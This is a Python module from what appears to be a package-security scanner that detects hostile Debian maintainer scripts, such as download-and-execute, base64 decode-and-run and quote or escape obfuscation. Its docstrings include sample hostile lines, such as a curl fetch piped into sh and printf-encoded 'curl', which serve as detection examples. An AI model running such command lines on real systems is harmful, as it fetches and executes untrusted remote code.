r"""Deterministic rules over maintainer scripts. Pure: bytes in, findings out.

dpkg runs ``preinst``, ``postinst``, ``prerm``, ``postrm`` and ``config`` as root;
``triggers`` declares what wakes the package. Each script is first parsed as shell
(bashlex, :mod:`aegis.analyze.evidence.script_parse`) to learn what it executes
(:mod:`aegis.analyze.evidence.script_exec`):

- text it only prints to the terminal (``echo "run: curl ... | bash" >&2``) is blanked
  before the rules below read the line: a message is not a command;
- shell text it runs from a string (``eval``, ``sh -c``, ``su -c``, ``trap``, a
  here-document or an ``echo``/``printf`` fed to a shell) is scanned as a script of its
  own, findings at the line that runs it, up to :data:`MAX_NESTING` levels deep;
- a script bashlex cannot parse is read as text (every rule still applies) and gets a
  ``script.unparsed`` finding (sensitive): obfuscation is often not shell bashlex knows.

Then the script is read line by line (backslash continuations joined, the finding
names the first physical line; full comment lines skipped) and every logical line is
matched twice:

- as written (``raw``): catches the *shape* of obfuscation (runs of ``\x63`` /
  ``\143`` escapes, ``base64 -d``);
- de-obfuscated (``norm``): quotes removed (``s""h`` -> ``sh``, ``c'u'rl`` ->
  ``curl``), backslash-escaped letters unescaped, ``$IFS`` turned into a space,
  printf/echo escapes decoded, and simple variables assigned earlier in the script
  substituted (``c=$(printf '\143\165\162\154')`` then ``$c`` -> ``curl``).

Two facts flow between lines: files a line downloads (``curl -o /tmp/x``) and
variables assigned from a download or a decode. Executing either later is
``script.download-exec`` / ``script.decoded-exec`` at the executing line.

The per-line rules (stable ids, severity hostile > sensitive) and their table are in
:mod:`aegis.analyze.evidence.script_rules`; how a line is read and de-obfuscated is
in :mod:`aegis.analyze.evidence.script_text`. This module is the scanner: it walks
the lines, applies the rules, tracks the facts above and emits ``script.binary``
for a script that is not text (or too long to review) and ``script.unparsed``.

A benign script (``set -e; mkdir -p "${DPKG_ROOT:-}/var/lib/x"; echo configured``)
produces no finding. Upgrades: :func:`compare_scripts` yields ``script.new`` and
``script.changed`` (severity ``changed``, line = first differing line).

Example:
    >>> body = b"#!/bin/sh\ncurl -s http://e.invalid/i | sh\n"
    >>> scan_script("aegis-x", "postinst", body)[0].rule
    'script.download-exec'
"""

from __future__ import annotations

import base64
import binascii
import re
import time
from collections.abc import Mapping
from dataclasses import dataclass, field, replace

from aegis.analyze.evidence.script_exec import read_shell
from aegis.analyze.evidence.script_parse import ScriptParseError, parse_script
from aegis.analyze.evidence.script_rules import RULES
from aegis.analyze.evidence.script_text import (
    CHANGED,
    FETCH,
    HOSTILE,
    INTERP,
    RANK,
    SENSITIVE,
    SHELL,
    Line,
    commands,
    download_target,
    logical_lines,
    normalise,
)
from aegis.model import Finding

MAX_EXCERPT = 200
"""Characters of the offending line kept as the excerpt (untrusted; show via aegis.text)."""

MAX_LINES = 20_000
"""Lines scanned per script; a longer script gets ``script.binary``-style refusal below."""

MAX_LINE_CHARS = 16_384
"""Characters of one logical line (the longest seen in Debian, ca-certificates.config,
is ~5,800). Some rules cost time quadratic in a line's length on hostile input, and
aegisd re-runs this scanner: a longer line is refused as ``script.binary``."""

MAX_SCAN_SECONDS = 10.0
"""Wall time to scan one script (real ones take milliseconds); past it, ``script.binary``."""

_ASSIGN = re.compile(r"^\s*(?:export\s+|local\s+|readonly\s+)?([A-Za-z_]\w*)=(.*)\Z")
_SUBST_WRAP = re.compile(r"^\$\(\s*(?:printf|echo)\s+(?:-[a-zA-Z]+\s+)*(?:%s\s+)?(.*?)\s*\)\Z")
_PLAIN_VALUE = re.compile(r"^[\w./:+-]+\Z")

RULE_IDS: tuple[str, ...] = (
    *(rule_id for rule_id, _ in RULES),
    "script.binary",
    "script.unparsed",
    "script.new",
    "script.changed",
)
"""Every rule id this module can emit."""

_SUPPRESSED_BY = {
    # A line already judged as download-and-run or decode-and-run needs no weaker label.
    "script.network": ("script.download-exec", "script.listener", "script.decoded-exec"),
    "script.dynamic-eval": ("script.decoded-exec", "script.download-exec"),
}


# --- cross-line facts --------------------------------------------------------------------


_DECODE_TARGET = re.compile(r">\s*([^\s;&|<>]+)")


def _executes(norm: str, target: str) -> bool:
    t = re.escape(target)
    return bool(
        re.search(rf"(?:^|[;&|]\s*|\bthen\s+|\bdo\s+)(?:sudo\s+)?{t}\b", norm)
        or re.search(rf"\b(?:{SHELL}|{INTERP}|source|\.)\s+(?:-\S+\s+)*{t}\b", norm)
        or re.search(rf"\bchmod\s+\S*x\S*\s+{t}\b", norm)
    )


def _executes_var(norm_before_subst: str, name: str) -> bool:
    v = rf"\$\{{?{name}\}}?"
    return bool(
        re.search(rf"(?:^|[;&|]\s*|\bthen\s+|\bdo\s+)(?:eval\s+|exec\s+)?{v}", norm_before_subst)
        or re.search(rf"\beval\b.*{v}", norm_before_subst)
        or re.search(rf"\b{SHELL}\s+-c\s+{v}", norm_before_subst)
        or re.search(rf"{v}.*\|\s*{SHELL}", norm_before_subst)
    )


_B64_TOKEN = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")


def _decoded_hits(line: Line) -> list[tuple[str, str]]:
    """Rules that fire on text a base64 literal of ``line`` decodes to (one level deep)."""
    out: list[tuple[str, str]] = []
    for token in _B64_TOKEN.findall(line.raw):
        try:
            decoded = base64.b64decode(token, validate=True).decode("utf-8")
        except (binascii.Error, ValueError):
            continue
        if not decoded.strip() or not all(ch.isprintable() or ch in "\n\t" for ch in decoded):
            continue
        for number, raw in logical_lines(decoded):
            inner = Line(number, raw, normalise(raw, {}), line.package)
            for rule_id, check in RULES:
                severity = check(inner)
                if severity == HOSTILE:
                    out.append((rule_id, severity))
    return out


def _is_binary(body: bytes) -> bool:
    if b"\x00" in body or body.startswith(b"\x7fELF"):
        return True
    try:
        body.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return False


def _excerpt(raw: str) -> str:
    text = raw.strip()
    return text if len(text) <= MAX_EXCERPT else text[: MAX_EXCERPT - 1] + "…"


def _rule_hits(line: Line) -> dict[str, str]:
    """Rule id -> severity for each per-line rule ``line`` fires, as written or decoded."""
    hits: dict[str, str] = {}
    for rule_id, check in RULES:
        severity = check(line)
        if severity is not None:
            hits[rule_id] = severity
    # What a base64 literal on this line decodes to is judged as if written here.
    for rule_id, severity in _decoded_hits(line):
        if RANK[severity] > RANK.get(hits.get(rule_id, CHANGED), 0) or rule_id not in hits:
            hits[rule_id] = severity
    return hits


@dataclass
class _Facts:
    """What earlier lines of one script established, for the lines after them."""

    variables: dict[str, str] = field(default_factory=dict)
    """Simple variables assigned a plain value -> that value (substituted into ``norm``)."""
    produced: dict[str, str] = field(default_factory=dict)
    """Files an earlier line downloaded or decoded -> the rule that running them fires."""
    tainted: dict[str, str] = field(default_factory=dict)
    """Variables assigned from a download or a decode -> the rule that running them fires."""

    def executed(self, line: Line, unsubstituted: str) -> dict[str, str]:
        """Cross-line rules ``line`` fires by running what an earlier line produced."""
        hits: dict[str, str] = {}
        for target, rule_id in self.produced.items():
            if _executes(line.norm, target):
                hits[rule_id] = HOSTILE
        for var, rule_id in self.tainted.items():
            if _executes_var(unsubstituted, var):
                hits[rule_id] = HOSTILE
        return hits

    def learn(self, line: Line, unsubstituted: str, hits: Mapping[str, str]) -> None:
        """Record what ``line`` downloads, decodes or assigns (``hits``: what it fired)."""
        for words in commands(line.norm):
            target = download_target(words)
            if target:
                self.produced[target] = "script.download-exec"
        m = _DECODE_TARGET.search(line.norm)
        if m and "script.decoded-exec" in hits:
            self.produced[m.group(1)] = "script.decoded-exec"
        a = _ASSIGN.match(unsubstituted)
        if a is None:
            return
        var, value = a.group(1), a.group(2).strip()
        if "script.download-exec" in hits or re.search(FETCH, line.norm):
            self.tainted[var] = "script.download-exec"
        elif "script.decoded-exec" in hits:
            self.tainted[var] = "script.decoded-exec"
        wrapped = _SUBST_WRAP.match(value)
        literal = wrapped.group(1) if wrapped else value
        if _PLAIN_VALUE.match(literal):
            self.variables[var] = literal


MAX_NESTING = 3
"""Levels of shell text run by shell text (``sh -c "eval '...'"``) that are parsed; deeper
strings are read with the text rules only."""


def _unparsed(package: str, name: str, why: str) -> Finding:
    return Finding("script.unparsed", package, name, 1, SENSITIVE, _excerpt(why))


def _too_long(package: str, name: str, lines: list[tuple[int, str]]) -> Finding | None:
    if len(lines) > MAX_LINES:
        return Finding("script.binary", package, name, 1, HOSTILE, "script too long to review")
    long_line = next((n for n, raw in lines if len(raw) > MAX_LINE_CHARS), None)
    if long_line is not None:
        reason = f"line longer than {MAX_LINE_CHARS} characters: too long to review"
        return Finding("script.binary", package, name, long_line, HOSTILE, reason)
    return None


def _scan_text(package: str, name: str, text: str, deadline: float, depth: int) -> list[Finding]:
    """Read ``text`` as shell and apply the rules.

    What it only prints is blanked before the rules read each line; what it runs from a
    string (``eval``, ``sh -c`` ...) is scanned as text of its own, at the running line.
    """
    lines = logical_lines(text)
    too_long = _too_long(package, name, lines)
    if too_long is not None:
        return [too_long]
    found: dict[tuple[int, str], Finding] = {}
    view, executed = text, []
    if depth <= MAX_NESTING:
        try:
            reading = read_shell(text, parse_script(text))
        except ScriptParseError as e:
            # What bashlex cannot parse is read as text (every rule still applies) and is
            # a signal of its own: obfuscation often is not shell bashlex knows.
            finding = _unparsed(package, name, f"not parsed as shell: {e}")
            found[1, finding.rule] = finding
        else:
            view, executed = reading.blanked(text), reading.executed
    shown = dict(lines)
    facts = _Facts()
    for number, raw in logical_lines(view) if view is not text else lines:
        if time.monotonic() > deadline:
            reason = f"not reviewed within {MAX_SCAN_SECONDS:g} s"
            return [Finding("script.binary", package, name, number, HOSTILE, reason)]
        stripped = raw.strip()
        if not stripped or stripped.startswith("#"):
            continue
        unsubstituted = normalise(raw, {})
        line = Line(number, raw, normalise(raw, facts.variables), package)
        hits = _rule_hits(line)
        hits.update(facts.executed(line, unsubstituted))
        for rule_id, severity in hits.items():
            if any(s in hits for s in _SUPPRESSED_BY.get(rule_id, ())):
                continue
            _keep(
                found,
                Finding(rule_id, package, name, number, severity, _excerpt(shown.get(number, raw))),
            )
        facts.learn(line, unsubstituted, hits)
    for offset, program in executed:
        number = text.count("\n", 0, offset) + 1
        for inner in _scan_text(package, name, program, deadline, depth + 1):
            if inner.rule == "script.binary" and "not reviewed" in inner.excerpt:
                return [replace(inner, line=number)]
            _keep(found, replace(inner, line=number))
    return list(found.values())


def _keep(found: dict[tuple[int, str], Finding], finding: Finding) -> None:
    """At most one finding per (line, rule): the most severe."""
    old = found.get((finding.line, finding.rule))
    if old is None or RANK[finding.severity] > RANK[old.severity]:
        found[finding.line, finding.rule] = finding


def scan_script(package: str, name: str, body: bytes) -> tuple[Finding, ...]:
    """Apply :data:`RULES` to one maintainer script, read as shell.

    Args:
        package: binary package name the finding is attributed to.
        name: the script's name (``postinst`` ...), recorded as the finding's file.
        body: the script's bytes as shipped.

    Returns:
        Findings ordered by line then rule; at most one per (rule, line), keeping
        the highest severity.
    """
    if _is_binary(body):
        return (Finding("script.binary", package, name, 1, HOSTILE, "not a text script"),)
    deadline = time.monotonic() + MAX_SCAN_SECONDS
    found = _scan_text(package, name, body.decode("utf-8"), deadline, 0)
    binary = [f for f in found if f.rule == "script.binary"]
    if binary:
        return (binary[0],)
    return tuple(sorted(found, key=lambda f: (f.line, f.rule)))


def _first_difference(old: str, new: str) -> int:
    old_lines, new_lines = old.splitlines(), new.splitlines()
    for i, (a, b) in enumerate(zip(old_lines, new_lines, strict=False), start=1):
        if a != b:
            return i
    return min(len(old_lines), len(new_lines)) + 1


def compare_scripts(
    package: str, scripts: Mapping[str, bytes], previous: Mapping[str, bytes]
) -> tuple[Finding, ...]:
    """Findings for scripts that are new or changed against the installed version.

    Args:
        package: binary package name.
        scripts: the scripts the new .deb ships.
        previous: the installed version's scripts (from dpkg's info directory).

    Returns:
        ``script.new`` (line 1) and ``script.changed`` (first differing line), severity
        ``changed``, in script-name order.
    """
    out: list[Finding] = []
    for name in sorted(scripts):
        body = scripts[name]
        if name not in previous:
            out.append(Finding("script.new", package, name, 1, CHANGED, "script added"))
        elif previous[name] != body:
            line = _first_difference(
                previous[name].decode("utf-8", "replace"), body.decode("utf-8", "replace")
            )
            new_lines = body.decode("utf-8", "replace").splitlines()
            excerpt = _excerpt(new_lines[line - 1]) if 0 < line <= len(new_lines) else ""
            out.append(Finding("script.changed", package, name, line, CHANGED, excerpt))
    return tuple(out)


def scan_scripts(
    package: str, scripts: Mapping[str, bytes], previous: Mapping[str, bytes] | None = None
) -> tuple[Finding, ...]:
    """Scan every maintainer script, then compare with ``previous`` when upgrading.

    Args:
        package: binary package name.
        scripts: script name -> bytes as shipped in the new package.
        previous: the installed version's scripts, or None for a fresh install.

    Returns:
        Rule findings (by script name, line, rule) followed by new/changed findings.
    """
    out: list[Finding] = []
    for name in sorted(scripts):
        out.extend(scan_script(package, name, scripts[name]))
    if previous is not None:
        out.extend(compare_scripts(package, scripts, previous))
    return tuple(out)
